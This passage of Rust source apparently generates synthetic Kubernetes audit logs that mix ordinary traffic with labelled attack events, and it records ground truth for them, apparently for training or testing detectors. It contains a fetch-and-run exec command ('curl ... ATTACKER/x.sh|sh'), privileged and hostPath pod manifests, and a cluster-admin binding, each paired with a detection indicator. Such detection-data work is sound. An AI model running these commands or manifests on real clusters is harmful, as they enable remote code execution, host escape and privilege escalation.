    ns: Option<&'s str>,
    name: &'s [u8],
    query: &'s [u8],
    code: u64,
    latency_us: u64,
    body: &'s [u8],
    /// `authorization.k8s.io/reason` when allowed.
    reason: &'s str,
}

/// Writes the audit event line for `spec` whose stage ended at `at` (Unix microseconds
/// times 1000).
fn write_event(out: &mut Vec<u8>, rng: &mut Rng, spec: &Spec<'_>, at: i64) {
    let res = spec.res;
    let with_name = !spec.name.is_empty() && (spec.verb != "create" || !res.sub.is_empty());
    out.clear();
    out.s("{\"kind\":\"Event\",\"apiVersion\":\"audit.k8s.io/v1\",\"level\":\"");
    out.s(if spec.body.is_empty() {
        "Metadata"
    } else {
        "RequestResponse"
    });
    out.s("\",\"auditID\":\"");
    rng.uuid(out);
    out.s("\",\"stage\":\"ResponseComplete\",\"requestURI\":\"");
    if res.resource.is_empty() {
        out.extend_from_slice(spec.name);
    } else {
        if res.group.is_empty() {
            out.s("/api/v1");
        } else {
            out.s("/apis/");
            out.s(res.group);
            out.push(b'/');
            out.s(res.version);
        }
        if let Some(ns) = spec.ns {
            out.s("/namespaces/");
            out.s(ns);
        }
        out.push(b'/');
        out.s(res.resource);
        if with_name && !matches!(spec.verb, "watch" | "list" | "deletecollection") {
            out.push(b'/');
            out.extend_from_slice(spec.name);
        }
        if !res.sub.is_empty() {
            out.push(b'/');
            out.s(res.sub);
        }
    }
    json_str_html(out, spec.query);
    out.s("\",\"verb\":\"");
    out.s(spec.verb);
    out.s("\",\"user\":");
    out.extend_from_slice(spec.user);
    out.s(",\"sourceIPs\":[\"");
    out.s(spec.ip);
    out.s("\"],\"userAgent\":\"");
    json_str_html(out, spec.agent.as_bytes());
    out.push(b'"');
    if !res.resource.is_empty() {
        out.s(",\"objectRef\":{\"resource\":\"");
        out.s(res.resource);
        out.push(b'"');
        if let Some(ns) = spec.ns {
            out.s(",\"namespace\":\"");
            out.s(ns);
            out.push(b'"');
        }
        if with_name {
            out.s(",\"name\":\"");
            out.extend_from_slice(spec.name);
            out.push(b'"');
        }
        if !res.group.is_empty() {
            out.s(",\"apiGroup\":\"");
            out.s(res.group);
            out.push(b'"');
        }
        out.s(",\"apiVersion\":\"");
        out.s(res.version);
        out.push(b'"');
        if !res.sub.is_empty() {
            out.s(",\"subresource\":\"");
            out.s(res.sub);
            out.push(b'"');
        }
        out.push(b'}');
    }
    out.s(",\"responseStatus\":{\"metadata\":{}");
    if spec.code >= 400 {
        failure(out, spec, with_name);
    }
    out.s(",\"code\":");
    out.u(spec.code);
    out.push(b'}');
    if !spec.body.is_empty() {
        out.s(",\"requestObject\":");
        out.extend_from_slice(spec.body);
    }
    let received = at - spec.latency_us as i64 * 1000;
    out.s(",\"requestReceivedTimestamp\":\"");
    Civil::from_nanos(received).rfc3339(out, 6);
    out.s("\",\"stageTimestamp\":\"");
    Civil::from_nanos(at).rfc3339(out, 6);
    out.push(b'"');
    if spec.code != 401 {
        out.s(",\"annotations\":{\"authorization.k8s.io/decision\":\"");
        if spec.code == 403 {
            out.s("forbid\",\"authorization.k8s.io/reason\":\"\"");
        } else {
            out.s("allow\",\"authorization.k8s.io/reason\":\"");
            json_str_html(out, spec.reason.as_bytes());
            out.push(b'"');
        }
        if res.resource == "pods" && res.sub.is_empty() && spec.verb == "create" {
            out.s(",\"pod-security.kubernetes.io/enforce-policy\":\"baseline:latest\"");
        }
        out.push(b'}');
    }
    out.s("}\n");
}

/// The `status`, `message`, `reason` and `details` of a failed request.
fn failure(out: &mut Vec<u8>, spec: &Spec<'_>, with_name: bool) {
    let res = spec.res;
    let mut qualified = Vec::with_capacity(64);
    qualified.s(res.resource);
    if !res.group.is_empty() {
        qualified.push(b'.');
        qualified.s(res.group);
    }
    let mut message = Vec::with_capacity(160);
    let reason = match spec.code {
        401 => {
            message.s("Unauthorized");
            "Unauthorized"
        }
        403 => {
            message.extend_from_slice(&qualified);
            if with_name {
                message.s(" \"");
                message.extend_from_slice(spec.name);
                message.push(b'"');
            }
            message.s(" is forbidden: User \"");
            message.s(spec.username);
            message.s("\" cannot ");
            message.s(spec.verb);
            message.s(" resource \"");
            message.s(res.resource);
            if !res.sub.is_empty() {
                message.push(b'/');
                message.s(res.sub);
            }
            message.s("\" in API group \"");
            message.s(res.group);
            match spec.ns {
                Some(ns) => {
                    message.s("\" in the namespace \"");
                    message.s(ns);
                    message.push(b'"');
                }
                None => message.s("\" at the cluster scope"),
            }
            "Forbidden"
        }
        404 => {
            message.extend_from_slice(&qualified);
            message.s(" \"");
            message.extend_from_slice(spec.name);
            message.s("\" not found");
            "NotFound"
        }
        409 if spec.verb == "create" => {
            message.extend_from_slice(&qualified);
            message.s(" \"");
            message.extend_from_slice(spec.name);
            message.s("\" already exists");
            "AlreadyExists"
        }
        409 => {
            message.s("Operation cannot be fulfilled on ");
            message.extend_from_slice(&qualified);
            message.s(" \"");
            message.extend_from_slice(spec.name);
            message.s("\": the object has been modified; please apply your changes to the latest version and try again");
            "Conflict"
        }
        _ => {
            message.extend_from_slice(&qualified);
            message.s(" \"");
            message.extend_from_slice(spec.name);
            message.s("\" is invalid: metadata.labels: Invalid value: \"-\": a valid label must be an empty string or consist of alphanumeric characters");
            "Invalid"
        }
    };
    out.s(",\"status\":\"Failure\",\"message\":\"");
    json_str_html(out, &message);
    out.s("\",\"reason\":\"");
    out.s(reason);
    out.push(b'"');
    if spec.code != 401 {
        out.s(",\"details\":{");
        if !spec.name.is_empty() {
            out.s("\"name\":\"");
            out.extend_from_slice(spec.name);
            out.s("\",");
        }
        if !res.group.is_empty() {
            out.s("\"group\":\"");
            out.s(res.group);
            out.s("\",");
        }
        out.s("\"kind\":\"");
        out.s(res.resource);
        out.s("\"}");
    }
}

/// Attack patterns in the audit log.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Attack {
    ExecShell,
    Anonymous,
    SecretEnumeration,
    PrivilegedPod,
    HostPathPod,
    ClusterAdminBinding,
    AuthFailures,
}

const ATTACKS: &[(Attack, u32)] = &[
    (Attack::ExecShell, 3),
    (Attack::Anonymous, 2),
    (Attack::SecretEnumeration, 2),
    (Attack::PrivilegedPod, 2),
    (Attack::HostPathPod, 2),
    (Attack::ClusterAdminBinding, 2),
    (Attack::AuthFailures, 2),
];

/// Events per attack, `(min, max)`.
fn attack_len(attack: Attack) -> (u64, u64) {
    match attack {
        Attack::ExecShell => (1, 3),
        Attack::Anonymous => (1, 5),
        Attack::SecretEnumeration => (10, 40),
        Attack::AuthFailures => (15, 50),
        _ => (1, 1),
    }
}

/// Expected events of one audit attack.
pub(crate) fn mean_attack_len() -> f64 {
    let total: u32 = ATTACKS.iter().map(|(_, w)| w).sum();
    ATTACKS
        .iter()
        .map(|&(a, w)| {
            let (lo, hi) = attack_len(a);
            (lo + hi) as f64 / 2.0 * f64::from(w)
        })
        .sum::<f64>()
        / f64::from(total)
}

/// Shell commands of `kubectl exec` attacks (`ATTACKER`: the attacker's address) and the text
/// that marks them.
const EXEC_SHELLS: &[(&str, &str)] = &[
    ("?command=%2Fbin%2Fsh&container={c}&stdin=true&stdout=true&tty=true", "command=%2Fbin%2Fsh"),
    ("?command=bash&container={c}&stdin=true&stdout=true&tty=true", "command=bash"),
    ("?command=sh&command=-c&command=curl%20-s%20http%3A%2F%2FATTACKER%2Fx.sh%7Csh&container={c}&stderr=true&stdout=true", "command=curl%20-s%20http%3A%2F%2F"),
    ("?command=%2Fbin%2Fbash&command=-i&container={c}&stdin=true&stdout=true&tty=true", "command=%2Fbin%2Fbash"),
];
/// Harmless `kubectl exec` commands of people at work.
const EXEC_NORMAL: &[&str] = &[
    "?command=env&container={c}&stderr=true&stdout=true",
    "?command=cat&command=%2Fetc%2Fresolv.conf&container={c}&stderr=true&stdout=true",
    "?command=nslookup&command=orders-api.shop&container={c}&stderr=true&stdout=true",
    "?command=ls&command=-la&command=%2Fapp&container={c}&stderr=true&stdout=true",
    "?command=date&container={c}&stderr=true&stdout=true",
];
/// Identities attackers use (stolen service-account tokens, a compromised laptop).
const ATTACKERS: &[(&str, &str)] = &[
    ("shop", "orders-api"),
    ("ci", "deployer"),
    ("default", "default"),
    ("", "bob@example.com"),
];

/// Generates the audit log.
pub(crate) struct AuditFile<'a> {
    rng: Rng,
    cluster: &'a Cluster,
    clock: Clock<'a>,
    sink: Sink,
    truth: &'a mut Truth,
    actors: Vec<Actor>,
    weights: Vec<(usize, u32)>,
    line: Vec<u8>,
    name: Vec<u8>,
    query: Vec<u8>,
    body: Vec<u8>,
    attack_start: f64,
    resource_version: u64,
}

impl<'a> AuditFile<'a> {
    pub fn new(
        cluster: &'a Cluster,
        sink: Sink,
        mut rng: Rng,
        timeline: &'a Timeline,
        events: u64,
        truth: &'a mut Truth,
        attack_rate: f64,
    ) -> AuditFile<'a> {
        let (actors, weights): (Vec<Actor>, Vec<u32>) =
            actors(cluster, &mut rng).into_iter().unzip();
        AuditFile {
            weights: weights.into_iter().enumerate().collect(),
            actors,
            clock: Clock::new(timeline, events, 1000),
            rng,
            cluster,
            sink,
            truth,
            line: Vec::with_capacity(4096),
            name: Vec::with_capacity(128),
            query: Vec::with_capacity(256),
            body: Vec::with_capacity(2048),
            attack_start: attack_rate / mean_attack_len(),
            resource_version: 48_000_000,
        }
    }

    /// Writes `events` events; returns the file's summary.
    pub fn run(mut self, events: u64) -> Result<crate::FileSummary, GenerateError> {
        let mut left = events;
        while left > 0 {
            let used = if self.attack_start > 0.0 && self.rng.chance(self.attack_start) {
                self.attack(left)?
            } else {
                self.normal()?;
                1
            };
            left -= used;
        }
        self.sink.finish()
    }

    /// Picks the object: writes its name into `name`, returns its namespace.
    fn target(&mut self, res: &Res, ns: Ns, node: usize) -> Option<&'static str> {
        self.name.clear();
        let cluster = self.cluster;
        let rng = &mut self.rng;
        let pick_ns = |rng: &mut Rng| *rng.pick(&cluster.namespaces);
        let mut namespace = match ns {
            Ns::Fixed(ns) => Some(ns),
            Ns::Any | Ns::All if res.namespaced => Some(pick_ns(rng)),
            _ => None,
        };
        match res.names {
            Names::Pods | Names::Events => {
                let pods: Vec<usize> = match ns {
                    Ns::Fixed(fixed) => cluster
                        .containers
                        .iter()
                        .enumerate()
                        .filter(|(_, c)| c.namespace == fixed)
                        .map(|(i, _)| i)
                        .collect(),
                    _ => Vec::new(),
                };
                let c = if pods.is_empty() {
                    rng.pick(&cluster.containers)
                } else {
                    &cluster.containers[*rng.pick(&pods)]
                };
                if pods.is_empty() && !matches!(ns, Ns::Fixed(_)) {
                    namespace = Some(c.namespace);
                }
                if pods.is_empty() && matches!(ns, Ns::Fixed(_)) {
                    self.name.s("preview-");
                    rng.chars(&mut self.name, NAME_ALPHABET, 5);
                } else {
                    self.name.s(&c.pod);
                }
                if res.names == Names::Events {
                    self.name.push(b'.');
                    rng.hex(&mut self.name, 16);
                }
            }
            Names::Apps(templates) => {
                let &(app_ns, app) = rng.pick(&cluster.apps);
                if matches!(ns, Ns::Any) && res.namespaced {
                    namespace = Some(app_ns);
                }
                let template = *rng.pick(templates);
                for (i, part) in template.split('{').enumerate() {
                    let text = match part.split_once('}') {
                        Some((placeholder, text)) if i > 0 => {
                            match placeholder {
                                "app" => self.name.s(app),
                                "hash" => rng.chars(&mut self.name, NAME_ALPHABET, 10),
                                _ => rng.chars(&mut self.name, NAME_ALPHABET, 5),
                            }
                            text
                        }
                        _ => part,
                    };
                    self.name.s(text);
                }
            }
            Names::Fixed(names) => self.name.s(rng.pick_str(names)),
            Names::Nodes => self.name.s(&rng.pick(&cluster.nodes).name),
            Names::OwnNode => self.name.s(&cluster.nodes[node].name),
            Names::Namespaces => self.name.s(pick_ns(rng)),
            Names::Random(prefix) => {
                self.name.s(prefix);
                rng.chars(&mut self.name, NAME_ALPHABET, 5);
            }
        }
        if ns == Ns::All {
            return None;
        }
        namespace
    }

    /// The query string of a request.
    fn make_query(&mut self, action: &Action, kubectl: bool, container: &str) {
        self.query.clear();
        let rng = &mut self.rng;
        match (action.verb, action.res.sub) {
            ("watch", _) => {
                let timeout = rng.range(300, 599);
                self.query.s("?allowWatchBookmarks=true");
                if action.named {
                    self.query.s("&fieldSelector=metadata.name%3D");
                    self.query.extend_from_slice(&self.name);
                }
                self.query.s("&resourceVersion=");
                self.resource_version += rng.range(1, 50);
                self.query.u(self.resource_version);
                self.query.s("&timeout=");
                self.query.u(timeout / 60);
                self.query.push(b'm');
                self.query.u(timeout % 60);
                self.query.s("s&timeoutSeconds=");
                self.query.u(timeout);
                self.query.s("&watch=true");
            }
            ("list", _) if kubectl => self.query.s("?limit=500"),
            ("list", _) => self.query.s("?limit=500&resourceVersion=0"),
            ("deletecollection", _) if kubectl => self.query.s("?labelSelector=app%3Dpreview"),
            ("create", "exec") => {
                let template = *rng.pick(EXEC_NORMAL);
                self.query.s(&template.replace("{c}", container));
            }
            ("create", "attach") => {
                self.query.s("?container=");
                self.query.s(container);
                self.query.s("&stderr=true&stdout=true");
            }
            ("create", "portforward") => {
                self.query.s("?ports=");
                self.query.u(*rng.pick(&[5432, 6379, 8080, 9090]));
            }
            ("get", "log") => {
                self.query.s("?container=");
                self.query.s(container);
                self.query.s("&follow=true&tailLines=100");
            }
            ("create", "") if kubectl => self
                .query
                .s("?fieldManager=kubectl-create&fieldValidation=Strict"),
            ("patch", "") if kubectl => self
                .query
                .s("?fieldManager=kubectl-client-side-apply&fieldValidation=Strict"),
            _ => {}
        }
    }

    /// How long a request took, in microseconds.
    fn latency(&mut self, verb: &str, sub: &str) -> u64 {
        let timeout = if verb == "watch" {
            self.query_timeout()
        } else {
            0
        };
        let rng = &mut self.rng;
        if matches!(sub, "exec" | "attach" | "portforward") || (verb == "get" && sub == "log") {
            return rng.log_uniform(2e6, 1.8e9) as u64;
        }
        match verb {
            "watch" => timeout * 1_000_000 + rng.range(0, 2_000),
            "get" => rng.log_uniform(600.0, 40_000.0) as u64,
            "list" => rng.log_uniform(2_000.0, 400_000.0) as u64,
            "create" => rng.log_uniform(2_000.0, 80_000.0) as u64,
            "deletecollection" => rng.log_uniform(20_000.0, 2_000_000.0) as u64,
            _ => rng.log_uniform(1_500.0, 100_000.0) as u64,
        }
    }

    fn query_timeout(&self) -> u64 {
        let text = String::from_utf8_lossy(&self.query);
        text.split("timeoutSeconds=")
            .nth(1)
            .and_then(|rest| rest.split('&').next())
            .and_then(|n| n.parse().ok())
            .unwrap_or(300)
    }

    /// The `requestObject` of a create, into `body` (empty: `Metadata` level).
    fn body(&mut self, res: &Res, ns: Option<&str>) {
        self.body.clear();
        let name = String::from_utf8_lossy(&self.name).into_owned();
        let ns = ns.unwrap_or("default");
        let out = &mut self.body;
        match res.resource {
            "pods" => {
                let c = self
                    .cluster
                    .containers
                    .iter()
                    .find(|c| name.starts_with(c.app))
                    .unwrap_or(&self.cluster.containers[0]);
                out.s("{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":{\"generateName\":\"");
                out.s(c.app);
                out.s("-\",\"namespace\":\"");
                out.s(ns);
                out.s("\",\"labels\":{\"app\":\"");
                out.s(c.app);
                out.s("\"}},\"spec\":{\"containers\":[{\"name\":\"");
                out.s(c.name);
                out.s("\",\"image\":\"");
                out.s(c.image);
                out.s("\",\"ports\":[{\"containerPort\":8080,\"protocol\":\"TCP\"}],\"resources\":{\"limits\":{\"memory\":\"512Mi\"},\"requests\":{\"cpu\":\"250m\",\"memory\":\"256Mi\"}},\"securityContext\":{\"allowPrivilegeEscalation\":false,\"runAsNonRoot\":true,\"capabilities\":{\"drop\":[\"ALL\"]}}}],\"serviceAccountName\":\"");
                out.s(c.app);
                out.s("\"}}");
            }
            "configmaps" => {
                out.s("{\"kind\":\"ConfigMap\",\"apiVersion\":\"v1\",\"metadata\":{\"name\":\"");
                out.s(&name);
                out.s("\",\"namespace\":\"");
                out.s(ns);
                out.s("\"},\"data\":{\"LOG_LEVEL\":\"info\",\"FEATURE_CHECKOUT_V2\":\"true\"}}");
            }
            "deployments" => {
                out.s(
                    "{\"kind\":\"Deployment\",\"apiVersion\":\"apps/v1\",\"metadata\":{\"name\":\"",
                );
                out.s(&name);
                out.s("\",\"namespace\":\"");
                out.s(ns);
                out.s("\"},\"spec\":{\"replicas\":2,\"selector\":{\"matchLabels\":{\"app\":\"");
                out.s(&name);
                out.s("\"}},\"template\":{\"metadata\":{\"labels\":{\"app\":\"");
                out.s(&name);
                out.s("\"}},\"spec\":{\"containers\":[{\"name\":\"");
                out.s(&name);
                out.s("\",\"image\":\"ghcr.io/example/");
                out.s(&name);
                out.s(":1.0.0\"}]}}}}");
            }
            "services" => {
                out.s("{\"kind\":\"Service\",\"apiVersion\":\"v1\",\"metadata\":{\"name\":\"");
                out.s(&name);
                out.s("\",\"namespace\":\"");
                out.s(ns);
                out.s("\"},\"spec\":{\"ports\":[{\"port\":8080,\"targetPort\":8080}],\"selector\":{\"app\":\"");
                out.s(&name);
                out.s("\"},\"type\":\"ClusterIP\"}}");
            }
            "serviceaccounts" => {
                out.s(
                    "{\"kind\":\"ServiceAccount\",\"apiVersion\":\"v1\",\"metadata\":{\"name\":\"",
                );
                out.s(&name);
                out.s("\",\"namespace\":\"");
                out.s(ns);
                out.s("\"}}");
            }
            "roles" | "clusterroles" => {
                let kind = if res.resource == "roles" {
                    "Role"
                } else {
                    "ClusterRole"
                };
                out.s("{\"kind\":\"");
                out.s(kind);
                out.s(
                    "\",\"apiVersion\":\"rbac.authorization.k8s.io/v1\",\"metadata\":{\"name\":\"",
                );
                out.s(&name);
                out.push(b'"');
                if res.namespaced {
                    out.s(",\"namespace\":\"");
                    out.s(ns);
                    out.push(b'"');
                }
                out.s("},\"rules\":[{\"verbs\":[\"get\",\"list\",\"watch\"],\"apiGroups\":[\"\"],\"resources\":[\"pods\",\"configmaps\"]}]}");
            }
            _ => {
                let kind = if res.resource == "rolebindings" {
                    "RoleBinding"
                } else {
                    "ClusterRoleBinding"
                };
                out.s("{\"kind\":\"");
                out.s(kind);
                out.s(
                    "\",\"apiVersion\":\"rbac.authorization.k8s.io/v1\",\"metadata\":{\"name\":\"",
                );
                out.s(&name);
                out.push(b'"');
                if res.namespaced {
                    out.s(",\"namespace\":\"");
                    out.s(ns);
                    out.push(b'"');
                }
                out.s("},\"subjects\":[{\"kind\":\"ServiceAccount\",\"name\":\"");
                out.s(&name);
                out.s("\",\"namespace\":\"");
                out.s(ns);
                out.s("\"}],\"roleRef\":{\"apiGroup\":\"rbac.authorization.k8s.io\",\"kind\":\"ClusterRole\",\"name\":\"view\"}}");
            }
        }
    }

    /// One ordinary event.
    fn normal(&mut self) -> Result<(), GenerateError> {
        let index = *self.rng.weighted(&self.weights);
        let actor = &self.actors[index];
        let action = *self.rng.weighted(&actor.actions);
        let (role, node, kubectl) = (actor.role, actor.node, actor.kubectl);
        let ns = self.target(action.res, action.ns, node);
        let container = match action.res.names {
            Names::Pods => {
                let pod = String::from_utf8_lossy(&self.name).into_owned();
                self.cluster
                    .containers
                    .iter()
                    .find(|c| c.pod == pod)
                    .map_or("app", |c| c.name)
            }
            _ => "app",
        };
        self.make_query(&action, kubectl, container);
        if matches!(action.verb, "list" | "watch" | "deletecollection") && !action.named {
            self.name.clear();
        }
        let code = if role == Role::Expired {
            401
        } else if role == Role::Viewer && action.res.resource == "secrets" {
            403
        } else {
            *self.rng.weighted(codes(action.verb, action.res, role))
        };
        if action.verb == "create" && code == 201 && logs_body(action.res) && self.rng.chance(0.5) {
            self.body(action.res, ns);
        } else {
            self.body.clear();
        }
        let latency = self.latency(action.verb, action.res.sub);
        let at = self.clock.next(&mut self.rng);
        let actor = &self.actors[index];
        let spec = Spec {
            user: &actor.user,
            username: &actor.username,
            ip: &actor.ips[self.rng.below(actor.ips.len())],
            agent: &actor.agent,
            verb: action.verb,
            res: action.res,
            ns,
            name: &self.name,
            query: &self.query,
            code,
            latency_us: latency,
            body: &self.body,
            reason: &actor.reason,
        };
        write_event(&mut self.line, &mut self.rng, &spec, at);
        self.sink.write(&self.line, 1)?;
        Ok(())
    }

    /// Writes one attack event from the buffers; `first` says whether it starts the attack.
    #[allow(clippy::too_many_arguments)]
    fn attack_event(
        &mut self,
        first: bool,
        gap: (u64, u64),
        who: &(Vec<u8>, String),
        ip: &str,
        agent: &str,
        verb: &'static str,
        res: &'static Res,
        ns: Option<&str>,
        code: u64,
        reason: &str,
        mark: (u64, &str, &str),
    ) -> Result<(), GenerateError> {
        let latency = self.latency(verb, res.sub);
        let at = if first {
            self.clock.next(&mut self.rng)
        } else {
            self.clock.burst(&mut self.rng, gap.0, gap.1)
        };
        let spec = Spec {
            user: &who.0,
            username: &who.1,
            ip,
            agent,
            verb,
            res,
            ns,
            name: &self.name,
            query: &self.query,
            code,
            latency_us: latency,
            body: &self.body,
            reason,
        };
        write_event(&mut self.line, &mut self.rng, &spec, at);
        let line = self.sink.write(&self.line, 1)?;
        let (attack, pattern, indicator) = mark;
        self.truth
            .record(attack, pattern, &self.sink, line, at, indicator);
        Ok(())
    }

    /// A stolen identity: the `user` JSON and the name.
    fn attacker_identity(&mut self) -> (Vec<u8>, String) {
        let &(ns, name) = self.rng.pick(ATTACKERS);
        if ns.is_empty() {
            (
                user_json(name, None, &["developers", "system:authenticated"], None),
                name.to_owned(),
            )
        } else {
            (
                service_account(&mut self.rng, ns, name, None),
                format!("system:serviceaccount:{ns}:{name}"),
            )
        }
    }

    /// An attack of at most `left` events; returns the events written.
    fn attack(&mut self, left: u64) -> Result<u64, GenerateError> {
        let kind = *self.rng.weighted(ATTACKS);
        let (lo, hi) = attack_len(kind);
        let count = self.rng.range(lo, hi).min(left);
        let attack = self.truth.start();
        let attacker_ip = self.rng.pick(&self.cluster.attacker_ips).clone();
        self.body.clear();
        self.query.clear();
        match kind {
            Attack::ExecShell => {
                let who = self.attacker_identity();
                let reason = rbac_reason("edit-binding", "edit", "User", &who.1);
                for i in 0..count {
                    let ns = self.target(&PODS_EXEC, Ns::Any, 0);
                    let pod = String::from_utf8_lossy(&self.name).into_owned();
                    let container = self
                        .cluster
                        .containers
                        .iter()
                        .find(|c| c.pod == pod)
                        .map_or("app", |c| c.name);
                    let &(template, indicator) = self.rng.pick(EXEC_SHELLS);
                    self.query.clear();
                    self.query.s(&template
                        .replace("{c}", container)
                        .replace("ATTACKER", &attacker_ip));
                    self.attack_event(
                        i == 0,
                        (5_000_000_000, 90_000_000_000),
                        &who,
                        &attacker_ip,
                        "kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f",
                        "create",
                        &PODS_EXEC,
                        ns,
                        101,
                        &reason,
                        (attack, "exec-shell", indicator),
                    )?;
                }
            }
            Attack::Anonymous => {
                let who = (
                    user_json("system:anonymous", None, &["system:unauthenticated"], None),
                    "system:anonymous".to_owned(),
                );
                let reason = rbac_reason("anonymous-read", "view", "User", "system:anonymous");
                let agent = *self.rng.pick(&["curl/8.5.0", "python-requests/2.31.0"]);
                for i in 0..count {
                    let &(verb, res) = self.rng.pick(&[
                        ("list", &SECRETS),
                        ("get", &SECRETS),
                        ("list", &PODS),
                        ("list", &CONFIGMAPS),
                        ("list", &NAMESPACES),
                        ("list", &NODES),
                    ]);
                    let ns = self.target(res, Ns::Any, 0);
                    if verb == "list" {
                        self.name.clear();
                    }
                    self.attack_event(
                        i == 0,
                        (200_000_000, 5_000_000_000),
                        &who,
                        &attacker_ip,
                        agent,
                        verb,
                        res,
                        ns,
                        200,
                        &reason,
                        (
                            attack,
                            "anonymous-access-allowed",
                            "\"username\":\"system:anonymous\"",
                        ),
                    )?;
                }
            }
            Attack::SecretEnumeration => {
                let who = self.attacker_identity();
                let reason = rbac_reason("edit-binding", "edit", "User", &who.1);
                let ip = if who.1.contains("serviceaccount") {
                    self.rng.pick(&self.cluster.containers).pod_ip.clone()
                } else {
                    attacker_ip.clone()
                };
                let agent = if who.1.contains("serviceaccount") {
                    "kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f"
                } else {
                    "kubectl/v1.30.0 (linux/amd64) kubernetes/7c48c2b"
                };
                for i in 0..count {
                    let verb = if i == 0 || self.rng.chance(0.4) {
                        "list"
                    } else {
                        "get"
                    };
                    let mut ns = self.target(&SECRETS, Ns::Any, 0);
                    if i == 0 {
                        ns = None;
                    }
                    self.query.clear();
                    if verb == "list" {
                        self.query.s("?limit=500");
                        self.name.clear();
                    }
                    let code = if self.rng.chance(0.7) { 200 } else { 403 };
                    self.attack_event(
                        i == 0,
                        (50_000_000, 800_000_000),
                        &who,
                        &ip,
                        agent,
                        verb,
                        &SECRETS,
                        ns,
                        code,
                        &reason,
                        (attack, "secret-enumeration", "\"resource\":\"secrets\""),
                    )?;
                }
            }
            Attack::PrivilegedPod | Attack::HostPathPod | Attack::ClusterAdminBinding => {
                let who = self.attacker_identity();
                let reason = rbac_reason("edit-binding", "edit", "User", &who.1);
                let ns = *self.rng.pick(&["default", "kube-system", "shop"]);
                self.name.clear();
                let (res, pattern, indicator) = match kind {
                    Attack::ClusterAdminBinding => {
                        self.name.s(self.rng.pick_str(&[
                            "cluster-admin-binding-tmp",
                            "debug-admin",
                            "system:metrics-reader",
                        ]));
                        self.body.s("{\"kind\":\"ClusterRoleBinding\",\"apiVersion\":\"rbac.authorization.k8s.io/v1\",\"metadata\":{\"name\":\"");
                        self.body.extend_from_slice(&self.name);
                        self.body.s("\"},\"subjects\":[{\"kind\":\"User\",\"apiGroup\":\"rbac.authorization.k8s.io\",\"name\":\"");
                        json_str_html(&mut self.body, who.1.as_bytes());
                        self.body.s("\"}],\"roleRef\":{\"apiGroup\":\"rbac.authorization.k8s.io\",\"kind\":\"ClusterRole\",\"name\":\"cluster-admin\"}}");
                        (
                            &CLUSTERROLEBINDINGS,
                            "cluster-admin-binding",
                            "\"roleRef\":{\"apiGroup\":\"rbac.authorization.k8s.io\",\"kind\":\"ClusterRole\",\"name\":\"cluster-admin\"}",
                        )
                    }
                    _ => {
                        self.name.s("debug-");
                        self.rng.chars(&mut self.name, NAME_ALPHABET, 5);
                        self.body
                            .s("{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":{\"name\":\"");
                        self.body.extend_from_slice(&self.name);
                        self.body.s("\",\"namespace\":\"");
                        self.body.s(ns);
                        self.body.s("\"},\"spec\":{");
                        let privileged = kind == Attack::PrivilegedPod;
                        if privileged {
                            self.body.s("\"hostPID\":true,\"hostNetwork\":true,");
                        }
                        self.body.s("\"containers\":[{\"name\":\"shell\",\"image\":\"alpine:3.19\",\"command\":[\"sleep\",\"infinity\"]");
                        if privileged {
                            self.body.s(",\"securityContext\":{\"privileged\":true}}]");
                        } else {
                            self.body.s(",\"volumeMounts\":[{\"name\":\"host\",\"mountPath\":\"/host\"}]}],\"volumes\":[{\"name\":\"host\",\"hostPath\":{\"path\":\"/\",\"type\":\"Directory\"}}]");
                        }
                        self.body.s("}}");
                        if privileged {
                            (&PODS, "privileged-pod", "\"privileged\":true")
                        } else {
                            (&PODS, "hostpath-pod", "\"hostPath\":{\"path\":\"/\"")
                        }
                    }
                };
                let scoped = if res.namespaced { Some(ns) } else { None };
                self.query
                    .s("?fieldManager=kubectl-create&fieldValidation=Strict");
                self.attack_event(
                    true,
                    (0, 0),
                    &who,
                    &attacker_ip,
                    "kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f",
                    "create",
                    res,
                    scoped,
                    201,
                    &reason,
                    (attack, pattern, indicator),
                )?;
                self.body.clear();
            }
            Attack::AuthFailures => {
                let anonymous = (
                    user_json("system:anonymous", None, &["system:unauthenticated"], None),
                    "system:anonymous".to_owned(),
                );
                let nobody = (b"{}".to_vec(), String::new());
                let indicator = format!("\"sourceIPs\":[\"{attacker_ip}\"]");
                for i in 0..count {
                    let &(verb, res) = self.rng.pick(&[
                        ("list", &SECRETS),
                        ("get", &SECRETS),
                        ("list", &PODS),
                        ("list", &NODES),
                        ("get", &CONFIGMAPS),
                        ("list", &CLUSTERROLEBINDINGS),
                    ]);
                    let ns = self.target(res, Ns::Any, 0);
                    if verb == "list" {
                        self.name.clear();
                    }
                    let (who, code) = if self.rng.chance(0.7) {
                        (&nobody, 401)
                    } else {
                        (&anonymous, 403)
                    };
                    self.attack_event(
                        i == 0,
                        (20_000_000, 400_000_000),
                        who,
                        &attacker_ip,
                        "python-requests/2.31.0",
                        verb,
                        res,
                        ns,
                        code,
                        "",
                        (attack, "auth-failure-burst", &indicator),
                    )?;
                }
            }
        }
        Ok(count)
    }
}
